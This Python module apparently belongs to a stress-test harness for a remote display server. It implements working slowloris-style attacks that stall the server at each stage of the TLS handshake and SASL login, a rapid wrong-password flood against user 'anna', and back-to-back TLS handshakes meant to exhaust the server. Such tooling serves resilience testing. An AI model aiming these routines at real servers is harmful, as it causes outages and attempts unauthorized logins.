"""Attackers that are past the first bytes: inside TLS, and in the middle of a SASL exchange. For attackers.py.

A real client of the same server, `login`, is here too, because it says the same words.
"""
import random
import ssl
import struct
import time

from attackers import LINK, UPGRADE, again, connect, exactly

# As LINK, with SASL among the common capabilities.
SASL_MESSAGE = struct.pack("<IBBIIII", 0, 1, 0, 1, 0, 18, 1 | 4 | 8)
SASL_LINK = b"REDQ" + struct.pack("<III", 2, 2, len(SASL_MESSAGE)) + SASL_MESSAGE
SASL = struct.pack("<I", 2)
# The header of the longest record that a TLS handshake may have.
LONG_RECORD = b"\x16\x03\x03\x40\x00"


def context():
    """Nobody is believed, but everybody is talked to."""
    anyone = ssl.create_default_context()
    anyone.check_hostname = False
    anyone.verify_mode = ssl.CERT_NONE
    return anyone


def client_hello():
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    begun = context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        begun.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def block(data):
    return struct.pack("<I", len(data)) + data


def sasl_link(peer):
    """The names of the mechanisms that are on offer."""
    peer.sendall(SASL_LINK)
    reply = exactly(peer, struct.unpack("<I", exactly(peer, 16)[12:])[0])
    if struct.unpack_from("<I", reply)[0]:
        raise ConnectionError(f"link error {reply[0]}")
    peer.sendall(SASL)
    return exactly(peer, struct.unpack("<I", exactly(peer, 4))[0])


def login(peer, user, password):
    """A main channel over PLAIN: None if the server hung up on the password, else the link result."""
    sasl_link(peer)
    peer.sendall(block(b"PLAIN") + block(b"\0" + user.encode() + b"\0" + password.encode() + b"\0"))
    try:
        said = struct.unpack("<I", exactly(peer, 4))[0]
        exactly(peer, said + 1)
        return struct.unpack("<I", exactly(peer, 4))[0]
    except ConnectionError:
        return None


def drip(make, stages, until):
    """Six peers at each stage, each of which says one byte of what is still to come every half second.

    A stage is (bytes said at once, inside the handshake's end or not, bytes that follow one by one).
    """
    peers, left, opened = {}, {}, 0
    while time.monotonic() < until:
        for at in range(6 * len(stages)):
            first, inside, rest = stages[at % len(stages)]
            if at not in peers:
                try:
                    peers[at] = make(inside)
                    if callable(first):
                        first(peers[at])
                    else:
                        peers[at].sendall(first)
                    left[at] = iter(rest)
                    opened += 1
                except OSError:
                    if at in peers:
                        peers.pop(at).close()
                    continue
            try:
                peers[at].sendall(bytes([next(left[at], 0x78)]))
            except OSError:
                peers.pop(at).close()
        time.sleep(0.5)
    return opened


def tls_loris(address, port, until):
    """Slow bytes on every stage of TLS and behind it: a hello, a record of 16 KiB, and in records of their own the
    first bytes, the link header, mechanism and password, an HTTP request."""
    hello = client_hello()
    secure = context()
    stages = [
        (b"", False, hello),
        (hello[:50], False, hello[50:]),
        (hello, False, LONG_RECORD),
        (hello + LONG_RECORD, False, b""),
        (b"", True, LINK),
        (LINK[:20], True, LINK[20:]),
        (sasl_link, True, block(b"x" * 90)),
        (lambda peer: (sasl_link(peer), peer.sendall(block(b"PLAIN"))), True, struct.pack("<I", 60000)),
        (UPGRADE[:40], True, b""),
        (UPGRADE, True, b"\x82\xfe\x7f\xff"),
    ]

    def make(inside):
        peer = connect(address, port, timeout=2)
        return secure.wrap_socket(peer, server_hostname="localhost") if inside else peer

    return drip(make, stages, until)


def sasl_loris(address, port, until):
    """Slow bytes on every stage of SASL: mechanism, length of a name, name, length of data, data."""
    chosen = block(b"DIGEST-MD5")

    def after(words):
        def act(peer):
            sasl_link(peer)
            peer.sendall(words)

        return act

    stages = [
        (SASL_LINK, False, SASL),
        (SASL_LINK + SASL[:2], False, SASL[2:]),
        (after(b""), False, block(b"x" * 90)),
        (after(struct.pack("<I", 90)), False, b""),
        (after(chosen), False, struct.pack("<I", 60000)),
        (after(chosen + struct.pack("<I", 60000)), False, b""),
        (after(chosen + block(b"")), False, b"\1\0\0\0"),
    ]
    return drip(lambda _: connect(address, port, timeout=2), stages, until)


def sasl_guesses(address, port, until):
    """Wrong passwords inside TLS, without the patience to wait for each answer."""
    secure = context()

    def act(peer):
        peer.settimeout(0.2)
        with secure.wrap_socket(peer, server_hostname="localhost") as stream:
            login(stream, "anna", f"guess {random.random()}")

    return again(address, port, until, act)


def tls_hellos(address, port, until):
    """Whole TLS handshakes, one after the other: what costs the server most for what a peer sends."""
    secure = context()

    def act(peer):
        secure.wrap_socket(peer, server_hostname="localhost").close()

    return again(address, port, until, act)
